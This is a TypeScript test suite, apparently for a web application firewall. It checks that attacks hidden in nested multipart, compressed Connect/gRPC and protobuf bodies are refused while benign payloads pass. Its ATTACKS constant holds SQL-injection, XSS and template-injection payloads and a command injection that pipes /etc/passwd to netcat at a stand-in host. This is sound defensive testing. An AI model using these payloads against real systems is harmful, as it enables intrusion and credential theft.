import { brotliCompressSync, gzipSync } from 'node:zlib';
import { sites } from './test-support/send.ts';

const CONNECTION = {
  id: 'test',
  clientAddress: '192.0.2.1',
  clientPort: 1,
  serverAddress: '192.0.2.2',
  serverPort: 80,
};
const ATTACKS = {
  SQL: "1' UNION SELECT username, password FROM users-- -",
  script: '<script>alert(document.cookie)</script>',
  command: ';cat /etc/passwd|nc 192.0.2.9 4444',
  template: "{{''.__class__.__mro__[1].__subclasses__()}}",
};

/** The id of each rule that counts, and whether the request is refused. */
function judge(type: string, content: string | Buffer, ...headers: string[]) {
  const body = Buffer.from(content as string);
  const transaction = sites.medium.beginTransaction(CONNECTION);
  transaction.requestLine('POST', '/api', 'HTTP/1.1');
  transaction.requestHeaders([
    ...['Host', 'a.example', 'User-Agent', 'Mozilla/5.0', 'Content-Type', type, ...headers],
    ...['Content-Length', String(body.length)],
  ]);
  transaction.requestBodyChunk(body);
  transaction.requestBody();
  transaction.logging();
  const { interruption, wouldInterrupt, matches } = transaction.audit();
  return {
    isRefused: (interruption ?? wouldInterrupt) !== null,
    rules: matches.filter(({ score }) => score > 0).map(({ ruleId }) => ruleId),
  };
}
const frame = (message: Buffer, flags = 0): Buffer => {
  const head = Buffer.alloc(5);
  head[0] = flags;
  head.writeUInt32BE(message.length, 1);
  return Buffer.concat([head, message]);
};

/** With each attack in turn. */
function expectRefused(send: (attack: string) => { isRefused: boolean }) {
  for (const [name, attack] of Object.entries(ATTACKS))
    expect([name, send(attack).isRefused]).toEqual([name, true]);
}

describe('parts within parts', () => {
  const changes = (request: string, body: string) =>
    `--b\r\nContent-Type: multipart/mixed; boundary=c\r\n\r\n--c\r\nContent-Type: application/http\r\nContent-Transfer-Encoding: binary\r\n\r\n${request} HTTP/1.1\r\nContent-Type: application/json\r\n\r\n${body}\r\n--c--\r\n--b--\r\n`;
  const mail = (words: string) =>
    `--b\r\nContent-Type: multipart/alternative; boundary=c\r\n\r\n--c\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n${words}\r\n--c\r\nContent-Type:text/html; charset=utf-8\r\n\r\n<p>${words}</p>\r\n--c--\r\n--b--\r\n`;

  it.each([
    ['changes of OData', changes('POST Items', '{"Name":"Ann"}')],
    ['changes of OData, of one that is there', changes("MERGE Items('12')", '{"Name":"Ann","Qty":2}')],
    ['a mail of text and HTML', mail('Hello')],
  ])('pass where they are %s', (_what, body) => {
    expect(judge('multipart/mixed; boundary=b', body)).toEqual({ isRefused: false, rules: [] });
  });

  it('are judged', () => {
    expectRefused((attack) =>
      judge('multipart/mixed; boundary=b', changes('POST Items', JSON.stringify({ Name: attack }))),
    );
    expectRefused((attack) => judge('multipart/mixed; boundary=b', mail(attack)));
  });
});

describe('packed messages', () => {
  const json = (attack: string) => Buffer.from(JSON.stringify({ note: attack }));

  it('are judged whatever further fields say of how they are packed', () => {
    const type = 'application/connect+json';
    const ofConnect = ['Connect-Content-Encoding', 'gzip'];
    expectRefused((attack) =>
      judge(type, frame(gzipSync(json(attack)), 1), ...ofConnect, 'Grpc-Encoding', 'deflate'),
    );
    expectRefused((attack) =>
      judge(type, frame(gzipSync(json(attack)), 1), 'Grpc-Encoding', 'deflate', 'Grpc-Encoding', 'gzip'),
    );
    expectRefused((attack) =>
      judge(type, frame(brotliCompressSync(json(attack)), 1), 'Connect-Content-Encoding', 'br'),
    );
  });

  it('are refused where nobody can unpack them, and pass where they say nothing bad', () => {
    const type = 'application/connect+json';
    expect(
      judge(type, frame(Buffer.from('\xffqqqq', 'latin1'), 1), 'Connect-Content-Encoding', 'x-own'),
    ).toMatchObject({
      isRefused: true,
    });
    expect(judge(type, frame(gzipSync(json("It's Ann")), 1), 'Connect-Content-Encoding', 'gzip')).toEqual({
      isRefused: false,
      rules: [],
    });
  });
});

describe('messages of protocol buffers beside a picture', () => {
  const varint = (value: number): number[] =>
    value < 128 ? [value] : [(value % 128) + 128, ...varint(Math.floor(value / 128))];
  const field = (number: number, content: string | Buffer): Buffer => {
    const bytes = Buffer.from(content as string);
    return Buffer.concat([Buffer.from([...varint(number * 8 + 2), ...varint(bytes.length)]), bytes]);
  };
  const picture = field(2, Buffer.from(Array.from({ length: 4000 }, (_, at) => (at * at * 7) % 251)));
  const deep = (content: Buffer, depth: number): Buffer =>
    depth === 0 ? content : field(1, deep(content, depth - 1));

  it.each([
    [
      'with a group that nobody knows',
      (text: string) => Buffer.concat([field(1, text), Buffer.from([0x7b, 0x7c])]),
    ],
    ['with a control in the text', (text: string) => field(1, `${text}\x0b`)],
    ['with a NUL before the text', (text: string) => field(1, `\0${text}`)],
    ['forty deep', (text: string) => deep(field(1, text), 40)],
  ])('are judged %s, whatever their type is called', (_what, content) => {
    for (const type of [
      'application/x-protobuf',
      'application/x-google-protobuf',
      'application/octet-stream',
    ])
      expectRefused((attack) => judge(type, Buffer.concat([content(attack), picture])));
    expectRefused((attack) =>
      judge('application/grpc+own', frame(Buffer.concat([content(attack), picture]))),
    );
  });

  it('pass where they are spans with ids', () => {
    const span = (at: number) =>
      field(
        2,
        Buffer.concat([
          field(1, Buffer.from(Array.from({ length: 16 }, (_, byte) => (at * 31 + byte * byte * 57) % 256))),
          field(5, 'HTTP GET'),
          field(9, Buffer.concat([field(1, 'http.route'), field(2, field(1, `/orders/${at}`))])),
        ]),
      );
    const spans = Buffer.concat(Array.from({ length: 500 }, (_, at) => span(at)));
    expect(judge('application/x-protobuf', field(1, spans))).toEqual({ isRefused: false, rules: [] });
  });
});
